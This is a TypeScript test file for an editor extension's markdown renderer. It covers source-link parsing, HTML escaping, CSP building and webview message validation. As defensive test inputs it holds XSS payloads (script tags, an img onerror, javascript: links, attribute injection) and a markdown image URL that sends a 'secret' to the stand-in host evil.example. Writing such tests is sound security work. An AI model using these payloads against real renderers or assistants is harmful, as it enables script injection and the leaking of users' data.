import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  commandUri,
  escapeHtml,
  openRequestFromArgs,
  openRequestFromMessage,
  openSourceMessage,
  parseSourceLink,
  renderAnswerHtml,
  renderMarkdown,
  renderSources,
  rewriteSourceLinks,
  sourceEntries,
} from '../src/markdown';

const ANSWER = [
  'The sum is computed by `add` in [src/a.py:10-20](file:///abs/src/a.py#L10-L20).',
  '',
  'Sources:',
  '- [src/a.py:10-20](file:///abs/src/a.py#L10-L20)',
  '- [src/b c.py:3](file:///abs/src/b%20c.py#L3)',
].join('\n');

describe('parseSourceLink', () => {
  it('reads a #Lstart-Lend fragment (1-based lines)', () => {
    assert.deepEqual(parseSourceLink('file:///abs/src/a.py#L10-L20'), {
      uri: 'file:///abs/src/a.py',
      startLine: 10,
      endLine: 20,
    });
  });
  it('reads a single-line fragment and tolerates #L10-20 and column suffixes', () => {
    assert.deepEqual(parseSourceLink('file:///a.py#L7'), { uri: 'file:///a.py', startLine: 7, endLine: 7 });
    assert.deepEqual(parseSourceLink('file:///a.py#L7-9'), { uri: 'file:///a.py', startLine: 7, endLine: 9 });
    assert.deepEqual(parseSourceLink('file:///a.py#L7,2-L9,4'), { uri: 'file:///a.py', startLine: 7, endLine: 9 });
  });
  it('keeps a link without a usable fragment, and rejects other schemes', () => {
    assert.deepEqual(parseSourceLink('file:///a.py'), { uri: 'file:///a.py' });
    assert.deepEqual(parseSourceLink('file:///a.py#top'), { uri: 'file:///a.py' });
    assert.equal(parseSourceLink('https://example.com/a.py#L1'), undefined);
    assert.equal(parseSourceLink('javascript:alert(1)'), undefined);
    assert.equal(parseSourceLink('src/a.py#L1'), undefined);
  });
  it('never returns an end before the start', () => {
    assert.deepEqual(parseSourceLink('file:///a.py#L9-L3'), { uri: 'file:///a.py', startLine: 9, endLine: 9 });
  });
});

describe('webview messages', () => {
  it('round-trips a link into a 0-based open request', () => {
    const msg = openSourceMessage(parseSourceLink('file:///abs/src/a.py#L10-L20')!);
    assert.deepEqual(msg, { type: 'openSource', uri: 'file:///abs/src/a.py', startLine: 10, endLine: 20 });
    assert.deepEqual(openRequestFromMessage(msg), { uri: 'file:///abs/src/a.py', start: 9, end: 19 });
  });
  it('rejects untrusted or malformed messages', () => {
    assert.equal(openRequestFromMessage(null), undefined);
    assert.equal(openRequestFromMessage({ type: 'other', uri: 'file:///a' }), undefined);
    assert.equal(openRequestFromMessage({ type: 'openSource', uri: 'command:workbench.action.quit' }), undefined);
    assert.equal(openRequestFromMessage({ type: 'openSource', uri: 42 }), undefined);
  });
  it('ignores bad line numbers', () => {
    assert.deepEqual(openRequestFromMessage({ type: 'openSource', uri: 'file:///a', startLine: 0 }), { uri: 'file:///a' });
    assert.deepEqual(openRequestFromMessage({ type: 'openSource', uri: 'file:///a', startLine: 'x' }), { uri: 'file:///a' });
    assert.deepEqual(openRequestFromMessage({ type: 'openSource', uri: 'file:///a', startLine: 5, endLine: 2 }), {
      uri: 'file:///a',
      start: 4,
      end: 4,
    });
    assert.deepEqual(openRequestFromArgs('file:///a', 3, 4), { uri: 'file:///a', start: 2, end: 3 });
  });
});

describe('renderMarkdown', () => {
  it('turns file: links into source elements carrying uri and lines', () => {
    const html = renderMarkdown(ANSWER);
    assert.match(html, /<a href="#" class="codeask-source" data-uri="file:\/\/\/abs\/src\/a\.py" data-start="10" data-end="20"/);
    assert.match(html, /data-uri="file:\/\/\/abs\/src\/b%20c\.py" data-start="3" data-end="3"/);
    assert.doesNotMatch(html, /href="file:/);
    assert.match(html, /<code>add<\/code>/);
    assert.match(html, /<li>/);
  });
  it('escapes raw HTML in the answer', () => {
    const html = renderMarkdown('x <script>alert(1)</script> & <img src=x onerror=alert(1)>');
    assert.doesNotMatch(html, /<script>/);
    assert.doesNotMatch(html, /<img/);
    assert.match(html, /&lt;script&gt;/);
    assert.match(html, /&amp;/);
  });
  it('does not render javascript: links and neutralizes relative ones', () => {
    const html = renderMarkdown('[x](javascript:alert(1)) [y](docs/a.md) [z](https://example.com)');
    assert.doesNotMatch(html, /href="javascript/);
    assert.match(html, /<a href="#">y<\/a>/);
    assert.match(html, /<a href="https:\/\/example\.com">z<\/a>/);
  });
  it('does not turn file names into web links, but links explicit URLs', () => {
    const html = renderMarkdown('see calc.py and setup.cfg, or https://example.com/docs');
    assert.doesNotMatch(html, /href="http:\/\/calc\.py"/);
    assert.match(html, /<a href="https:\/\/example\.com\/docs">/);
  });
  it('escapes quotes in link targets', () => {
    const html = renderMarkdown('[a](file:///x"onmouseover="alert(1).py#L1)');
    assert.doesNotMatch(html, /"onmouseover="/);
  });
});

describe('sources list', () => {
  const sources = [
    { path: 'src/a.py', uri: 'file:///abs/src/a.py', start_line: 10, end_line: 20, symbol: 'add', score: 0.5 },
    { path: 'src/<b>.py', uri: 'file:///abs/src/%3Cb%3E.py', start_line: 1, end_line: 2, symbol: '<evil>' },
  ];
  it('uses the LSP location (0-based) when it matches, else the 1-based source lines', () => {
    const entries = sourceEntries(sources, [
      { uri: 'file:///abs/src/a.py', range: { start: { line: 9, character: 0 }, end: { line: 19, character: 0 } } },
    ]);
    assert.equal(entries[0].label, 'src/a.py:10-20');
    assert.equal(entries[0].startLine, 10);
    assert.equal(entries[1].label, 'src/<b>.py:1-2');
  });
  it('gives each span of a widened source its own row, paired with its own Location', () => {
    const widened = [
      {
        path: 'src/s.py',
        uri: 'file:///abs/src/s.py#L40-L60',
        start_line: 40,
        end_line: 60,
        symbol: 'Session.send',
        spans: [
          { start_line: 40, end_line: 60, uri: 'file:///abs/src/s.py#L40-L60', symbol: 'Session.send' },
          { start_line: 90, end_line: 99, uri: 'file:///abs/src/s.py#L90-L99', symbol: 'Session.merge' },
        ],
      },
      { path: 'src/t.py', uri: 'file:///abs/src/t.py#L1-L5', start_line: 1, end_line: 5 },
    ];
    const range = (a: number, b: number) => ({ start: { line: a, character: 0 }, end: { line: b, character: 3 } });
    const entries = sourceEntries(widened, [
      { uri: 'file:///abs/src/s.py', range: range(39, 59) },
      { uri: 'file:///abs/src/s.py', range: range(89, 98) },
      { uri: 'file:///abs/src/t.py', range: range(0, 4) },
    ]);
    assert.deepEqual(
      entries.map((e) => [e.label, e.uri, e.symbol]),
      [
        ['src/s.py:40-60', 'file:///abs/src/s.py#L40-L60', 'Session.send'],
        ['src/s.py:90-99', 'file:///abs/src/s.py#L90-L99', 'Session.merge'],
        ['src/t.py:1-5', 'file:///abs/src/t.py#L1-L5', undefined],
      ],
    );
  });
  it('renders escaped, clickable rows', () => {
    const html = renderSources(sourceEntries(sources));
    assert.match(html, /<a href="#" class="codeask-source" data-uri="file:\/\/\/abs\/src\/a\.py" data-start="10" data-end="20">src\/a\.py:10-20<\/a> <code>add<\/code>/);
    assert.match(html, /src\/&lt;b&gt;\.py:1-2/);
    assert.match(html, /<code>&lt;evil&gt;<\/code>/);
    assert.equal(renderSources([]), '');
  });
});

describe('renderAnswerHtml', () => {
  it('builds a page with a CSP, the nonce-tagged click script and the sources', () => {
    const html = renderAnswerHtml(
      {
        title: 'How is <a> added?',
        markdown: ANSWER,
        sources: [{ path: 'src/a.py', uri: 'file:///abs/src/a.py', start_line: 10, end_line: 20 }],
        subquestions: ['How is <a> added?', 'where is add defined'],
      },
      'abc123',
      'vscode-webview://x',
    );
    assert.match(html, /Content-Security-Policy/);
    assert.match(html, /script-src &#39;nonce-abc123&#39;/);
    assert.match(html, /<script nonce="abc123">/);
    assert.match(html, /postMessage/);
    assert.match(html, /<h1 class="question">How is &lt;a&gt; added\?<\/h1>/);
    assert.match(html, /<h2>Sources<\/h2>/);
    assert.doesNotMatch(html, /Also relevant/);
    assert.match(html, /where is add defined/);
    assert.equal((html.match(/How is &lt;a&gt; added\?<\/li>/g) ?? []).length, 0);
  });
});

describe('what was not sent to the model', () => {
  it('is listed under its own heading, after the sources', () => {
    const html = renderAnswerHtml(
      {
        title: 'q',
        markdown: 'A [[1]](file:///abs/a.py#L1-L2).',
        sources: [{ path: 'a.py', uri: 'file:///abs/a.py#L1-L2', start_line: 1, end_line: 2 }],
        alsoRelevant: [{ path: 'b<x>.py', uri: 'file:///abs/b.py#L5-L9', start_line: 5, end_line: 9 }],
      },
      'n',
      'vscode-webview://x',
    );
    const sources = html.indexOf('<h2>Sources</h2>');
    const also = html.indexOf('<h2>Also relevant, not sent to the model</h2>');
    assert.ok(sources > 0 && also > sources);
    assert.match(html.slice(also), /<ul class="sources">\n<li><a href="#" class="codeask-source" data-uri="file:\/\/\/abs\/b.py#L5-L9" data-start="5" data-end="9">b&lt;x&gt;.py:5-9<\/a>/);
    assert.doesNotMatch(html.slice(sources, also), /b&lt;x&gt;/);
  });
});

describe('hover links', () => {
  it('rewrites file: links into command URIs with the uri and 1-based lines', () => {
    const out = rewriteSourceLinks(ANSWER, 'codeask.openSource');
    assert.doesNotMatch(out, /\]\(file:/);
    const m = /\[src\/a\.py:10-20\]\(command:codeask\.openSource\?([^)]+)\)/.exec(out);
    assert.ok(m, out);
    assert.deepEqual(JSON.parse(decodeURIComponent(m[1])), ['file:///abs/src/a.py', 10, 20]);
  });
  it('encodes parentheses so the markdown link stays intact', () => {
    const uri = commandUri('x', ["file:///a(1).py"]);
    assert.doesNotMatch(uri.slice('command:x?'.length), /[()]/);
    assert.deepEqual(JSON.parse(decodeURIComponent(uri.slice('command:x?'.length))), ['file:///a(1).py']);
  });
  it('leaves other links alone', () => {
    assert.equal(rewriteSourceLinks('[a](https://x.y)', 'c'), '[a](https://x.y)');
  });
  it('reads a `)` in a path as markdown does: inside <...> or balanced parentheses', () => {
    const out = rewriteSourceLinks('[a](<file:///p/a)b.py#L2-L3>) [b](file:///p/c(1).py#L4) [c](file:///p/d.py)', 'c');
    const args = [...out.matchAll(/\]\((command:c\?[^)\s]+)\)/g)].map((m) => JSON.parse(decodeURIComponent(m[1].slice('command:c?'.length))));
    assert.deepEqual(args, [['file:///p/a)b.py', 2, 3], ['file:///p/c(1).py', 4, 4], ['file:///p/d.py']]);
  });
});

describe('no remote content', () => {
  it('renders images as text and allows no https: images in the CSP', () => {
    const html = renderMarkdown('Done. ![status](https://evil.example/c?d=secret)');
    assert.doesNotMatch(html, /<img/);
    assert.match(html, /\[image: status\] https:\/\/evil\.example\/c\?d=secret/);
    const page = renderAnswerHtml({ title: 'q', markdown: '![x](https://evil.example/x.png)' }, 'n', 'vscode-resource:');
    const csp = /content="([^"]*)"/.exec(page)![1];
    assert.doesNotMatch(csp, /https:/);
    assert.match(csp, /default-src 'none'|default-src &#39;none&#39;/);
  });
});

describe('escapeHtml', () => {
  it('escapes the five characters', () => {
    assert.equal(escapeHtml(`<a href="x">'&'</a>`), '&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });
});

describe('the lists of sources, once', () => {
  const sources = [
    { path: 'a.py', uri: 'file:///abs/a.py#L1-L2', start_line: 1, end_line: 2, symbol: 'add', score: 0.9 },
    { path: 'b.py', uri: 'file:///abs/b.py#L5-L9', start_line: 5, end_line: 9 },
  ];
  it("shows the server's Sources: and also-relevant lists as headed lists, and not the panel's again", () => {
    const markdown = [
      'A [[1]](file:///abs/a.py#L1-L2) and [[2]](file:///abs/b.py#L5-L9).',
      '',
      'Sources:',
      '1. [a.py:1-2](file:///abs/a.py#L1-L2)',
      '2. [b.py:5-9](file:///abs/b.py#L5-L9) (added: calls add from a.py)',
      '',
      'Also relevant, not sent to the model',
      '- [c.py:3-4](file:///abs/c.py#L3-L4)',
    ].join('\n');
    const html = renderAnswerHtml(
      { title: 'q', markdown, sources, alsoRelevant: [{ path: 'c.py', uri: 'file:///abs/c.py#L3-L4', start_line: 3, end_line: 4 }] },
      'n',
      'x',
    );
    assert.equal((html.match(/<h2>Sources<\/h2>/g) ?? []).length, 1, html);
    assert.equal((html.match(/<h2>Also relevant, not sent to the model<\/h2>/g) ?? []).length, 1, html);
    assert.equal((html.match(/data-uri="file:\/\/\/abs\/b.py"/g) ?? []).length, 2, 'b.py: its citation and its row'); // not a third
    assert.equal((html.match(/data-uri="file:\/\/\/abs\/c.py"/g) ?? []).length, 1);
    assert.match(html, /\(added: calls add from a.py\)/);
  });
  it("an explanation's Related: list stands for the sources", () => {
    const html = renderAnswerHtml({ title: 'q', markdown: 'Text.\n\nRelated:\n1. [a.py:1-2](file:///abs/a.py#L1-L2)\n', sources }, 'n', 'x');
    assert.equal((html.match(/<h2>/g) ?? []).length, 1);
    assert.match(html, /<h2>Related<\/h2>/);
  });
  it("lists the sources itself when the markdown has no list of them, and keeps a 'Sources:' sentence as text", () => {
    const html = renderAnswerHtml({ title: 'q', markdown: 'Sources: none of them.', sources }, 'n', 'x');
    assert.match(html, /<p>Sources: none of them.<\/p>/);
    assert.match(html, /<h2>Sources<\/h2>\n<ol class="sources">/);
  });
});

describe("an explanation's [n]", () => {
  const sources = [
    { path: 'a.py', uri: 'file:///abs/a.py', start_line: 3, end_line: 8 },
    { path: 'b c.py', uri: 'file:///abs/b%20c.py#L5-L9', start_line: 5, end_line: 9 },
  ];
  it('links the n-th source, not code, not a link, not a number naming no source', () => {
    const markdown = 'Uses [1] and [2][1], not `x[1]`, not [3], not [[2]](file:///abs/z.py#L1).\n\n```\nv = w[2]\n```';
    const html = renderMarkdown(markdown, { citations: sources });
    assert.match(html, /<a href="#" class="codeask-source" data-uri="file:\/\/\/abs\/a.py" data-start="3" data-end="8" title="[^"]*">\[1\]<\/a>/);
    assert.match(html, /data-uri="file:\/\/\/abs\/b%20c.py" data-start="5" data-end="9"[^>]*>\[2\]<\/a><a [^>]*data-uri="file:\/\/\/abs\/a.py"/);
    assert.match(html, /<code>x\[1\]<\/code>/);
    assert.match(html, /not \[3\], not <a [^>]*data-uri="file:\/\/\/abs\/z.py"[^>]*>\[2\]<\/a>/);
    assert.match(html, /v = w\[2\]/);
    assert.equal((html.match(/class="codeask-source"/g) ?? []).length, 4);
  });
  it('stays text without citations (an answer: the server already linked its [n])', () => {
    assert.doesNotMatch(renderMarkdown('Uses [1].'), /<a /);
  });
});
